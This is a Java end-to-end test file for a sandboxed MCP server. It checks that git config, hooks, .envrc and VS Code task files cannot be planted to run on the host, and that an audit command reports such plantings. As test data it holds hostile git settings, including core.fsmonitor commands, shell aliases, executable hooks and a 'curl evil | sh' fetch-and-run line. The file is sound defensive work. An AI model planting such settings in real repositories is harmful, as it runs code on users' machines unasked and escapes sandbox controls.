package dev.sandboxmcp.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import io.modelcontextprotocol.client.McpSyncClient;
import io.modelcontextprotocol.spec.McpSchema;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/**
 * The workspace must not become a way onto the host, from the attacker's side: the pair as
 * {@code make up} starts it (the override infra/compose/protect-git.sh writes for a workspace that
 * already holds a repository), a command and the file tools trying to plant what git, direnv and
 * VS Code on the host run by themselves, the host's own git showing that the threat is real, and
 * the audit reporting what the mounts cannot prevent.
 */
@RequiresDocker
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class GitProtectionTest {

    ComposeDeployment deployment;
    McpSyncClient client;
    Path existing;
    byte[] configBefore;
    List<String> hooksBefore;

    @TempDir
    Path state;

    @BeforeAll
    void start() throws Exception {
        deployment = ComposeDeployment.start("git", workspace -> {
            Path repo = Files.createDirectories(workspace.resolve("projects/existing"));
            hostGit(repo, "init", "-q");
            Files.writeString(repo.resolve("README.md"), "hello\n");
            hostGit(repo, "add", "README.md");
            hostGit(repo, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "first");
            Files.deleteIfExists(repo.resolve(".git/hooks/pre-commit.sample")); // as in a repository whose hooks dir is sparse
        });
        client = deployment.streamableClient();
        existing = deployment.workspace.resolve("projects/existing");
        configBefore = Files.readAllBytes(existing.resolve(".git/config"));
        hooksBefore = listing(existing.resolve(".git/hooks"));
    }

    @AfterAll
    void stop() throws Exception {
        if (client != null) {
            client.close();
        }
        if (deployment != null) {
            deployment.close();
        }
    }

    @Test
    void aCommandCannotPlantInAnExistingRepositoryWhileCommitsWork() throws Exception {
        String marker = deployment.workspace.resolve("planted-command-ran").toString();
        Map<String, Object> config = run("cd projects/existing && git config core.fsmonitor 'touch " + marker + "; true'");
        assertThat(config.get("exit_code")).isNotEqualTo(0);
        assertThat((String) config.get("stderr")).contains("could not write config file .git/config")
                .containsAnyOf("Read-only file system", "Device or resource busy");
        assertThat(run("cd projects/existing && git config core.hooksPath /tmp").get("exit_code")).isNotEqualTo(0);
        assertThat(run("cd projects/existing && git config alias.st '!touch " + marker + "'").get("exit_code")).isNotEqualTo(0);
        assertThat(run("cd projects/existing && git remote add evil /tmp/x").get("exit_code")).isNotEqualTo(0);
        Map<String, Object> append = run("cd projects/existing && printf '[core]\\n\\tfsmonitor = touch " + marker
                + "\\n' >> .git/config");
        assertThat((String) append.get("stderr")).contains("Read-only file system");
        Map<String, Object> hook = run("cd projects/existing && printf '#!/bin/sh\\ntouch " + marker
                + "\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
        assertThat(hook.get("exit_code")).isNotEqualTo(0);
        assertThat((String) hook.get("stderr")).contains("Read-only file system");
        // Nor by moving the repository, or its .git, aside and putting a planted copy in its place.
        assertThat(run("cd projects/existing && mv .git .git-aside").get("exit_code")).isNotEqualTo(0);
        assertThat(run("mv projects/existing projects/aside").get("exit_code")).isNotEqualTo(0);
        assertThat(run("mv projects projects-aside").get("exit_code")).isNotEqualTo(0);

        assertThat(Files.readAllBytes(existing.resolve(".git/config"))).isEqualTo(configBefore);
        assertThat(listing(existing.resolve(".git/hooks"))).isEqualTo(hooksBefore);
        assertThat(existing.resolve(".git/hooks/pre-commit")).doesNotExist();

        Map<String, Object> commit = run("cd projects/existing && echo change >> README.md && git add README.md && "
                + "git -c user.name=t -c user.email=t@example.com commit -q -m second && git checkout -q -b topic && "
                + "git diff --stat HEAD~1 && git log --oneline | wc -l");
        assertThat(commit.get("exit_code")).as(commit.toString()).isEqualTo(0);
        assertThat(((String) commit.get("stdout")).strip()).endsWith("2");
        assertThat(hostGit(existing, "log", "--format=%s", "topic")).isEqualTo("second\nfirst\n");
        assertThat(Path.of(marker)).doesNotExist();
    }

    @Test
    void theFileToolsRefuseTheSamePaths() throws Exception {
        run("mkdir -p projects/existing/.vscode projects/existing/x");
        for (String path : List.of("projects/existing/.git/config", "projects/existing/.git/hooks/pre-commit",
                "projects/existing/.envrc", "projects/existing/.vscode/tasks.json", "projects/existing/x/../.git/config",
                "projects/existing/x/.git")) {
            McpSchema.CallToolResult write = client.callTool(new McpSchema.CallToolRequest("write_file",
                    Map.of("path", path, "content", "[core]\n\tfsmonitor = id\n")));
            assertThat(write.isError()).as(path).isTrue();
            assertThat(text(write)).as(path).startsWith("refused: ").contains("ask them to make it themselves");
        }
        McpSchema.CallToolResult edit = client.callTool(new McpSchema.CallToolRequest("edit_file", Map.of("path",
                "projects/existing/.git/config", "old_text", "[core]", "new_text", "[core]\n\tfsmonitor = id")));
        assertThat(edit.isError()).isTrue();
        assertThat(text(edit)).startsWith("refused: ");
        assertThat(Files.readAllBytes(existing.resolve(".git/config"))).isEqualTo(configBefore);
        assertThat(existing.resolve(".envrc")).doesNotExist();
        assertThat(existing.resolve(".vscode/tasks.json")).doesNotExist();
        assertThat(existing.resolve("x/.git")).doesNotExist();
    }

    @Test
    void theThreatIsRealWhereNothingProtectsAndTheAuditReportsIt() throws Exception {
        Path marker = deployment.workspace.resolve("host-ran-fsmonitor");
        // A repository created after make up, and one nested in the protected repository: not
        // mounted, so the plantings succeed inside the sandbox.
        String plantings = "git config core.fsmonitor 'touch " + marker + "; true' && git config core.hooksPath .hooks && "
                + "git config alias.l '!touch " + marker + "' && printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit && "
                + "chmod +x .git/hooks/pre-commit";
        Map<String, Object> plant = run("git init -q later && (cd later && " + plantings + ") && "
                + "mkdir -p projects/existing/vendor/nested && cd projects/existing/vendor/nested && git init -q && "
                + plantings);
        assertThat(plant.get("exit_code")).as(plant.toString()).isEqualTo(0);

        // The host's own git, in the planted repository, runs the command: the threat is real.
        hostGit(deployment.workspace.resolve("later"), "status", "--short");
        assertThat(marker).exists();
        Files.delete(marker);
        // The protected repository never got the setting, so the host's git there runs nothing.
        assertThat(hostGitExit(existing, "config", "--get", "core.fsmonitor")).isEqualTo(1);
        hostGit(existing, "status", "--short");
        assertThat(marker).doesNotExist();

        Commands.Result first = audit();
        assertThat(first.exitCode()).as(first.output()).isEqualTo(1);
        assertThat(first.output()).contains(
                "new    later/.git/config: core.fsmonitor: touch " + marker + "; true",
                "new    later/.git/config: core.hookspath: .hooks",
                "new    later/.git/config: alias.l: !touch " + marker,
                "new    later/.git/hooks/pre-commit: hook: executable, sha256 ",
                "new    projects/existing/vendor/nested/.git/config: core.fsmonitor: touch " + marker + "; true",
                "new    projects/existing/vendor/nested/.git/config: core.hookspath: .hooks",
                "new    projects/existing/vendor/nested/.git/config: alias.l: !touch " + marker,
                "new    projects/existing/vendor/nested/.git/hooks/pre-commit: hook: executable, sha256 ");
        assertThat(first.output()).contains(" 8 things the host would run by itself, 8 new");

        Commands.Result accept = audit("--accept");
        assertThat(accept.exitCode()).as(accept.output()).isZero();
        Commands.Result quiet = audit();
        assertThat(quiet.exitCode()).as(quiet.output()).isZero();
        assertThat(quiet.output()).contains(" 0 new since ");

        assertThat(run("cd later && git config core.fsmonitor 'curl evil | sh'").get("exit_code")).isEqualTo(0);
        Commands.Result changed = audit();
        assertThat(changed.exitCode()).as(changed.output()).isEqualTo(1);
        assertThat(changed.output()).contains("1 new").contains("new    later/.git/config: core.fsmonitor: curl evil | sh");
    }

    Map<String, Object> run(String command) {
        return Mcp.run(client, command, 60);
    }

    Commands.Result audit(String... flags) throws Exception {
        List<String> command = new ArrayList<>(List.of(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "--enable-native-access=ALL-UNNAMED", "-jar", Repo.path("app/target/sandbox-mcp.jar").toString(), "audit"));
        command.addAll(List.of(flags));
        command.add(deployment.workspace.toString());
        return Commands.run(command, Map.of("XDG_STATE_HOME", state.toString()), Repo.root(), 120);
    }

    static String text(McpSchema.CallToolResult result) {
        return ((McpSchema.TextContent) result.content().getFirst()).text();
    }

    static List<String> listing(Path dir) throws Exception {
        try (Stream<Path> entries = Files.list(dir)) {
            return entries.map(p -> p.getFileName().toString()).sorted().toList();
        }
    }

    /** The host's git, as the user would run it (the files belong to the sandbox's user: trusted here explicitly). */
    static String hostGit(Path dir, String... args) throws Exception {
        Commands.Result result = hostGitResult(dir, args);
        assertThat(result.exitCode()).as("git " + String.join(" ", args) + ":\n" + result.output()).isZero();
        return result.output();
    }

    static int hostGitExit(Path dir, String... args) throws Exception {
        return hostGitResult(dir, args).exitCode();
    }

    private static Commands.Result hostGitResult(Path dir, String... args) throws Exception {
        List<String> command = new ArrayList<>(List.of("git", "-c", "safe.directory=*", "-c", "init.defaultBranch=main"));
        command.addAll(List.of(args));
        return Commands.run(command, Map.of(), dir, 60);
    }
}
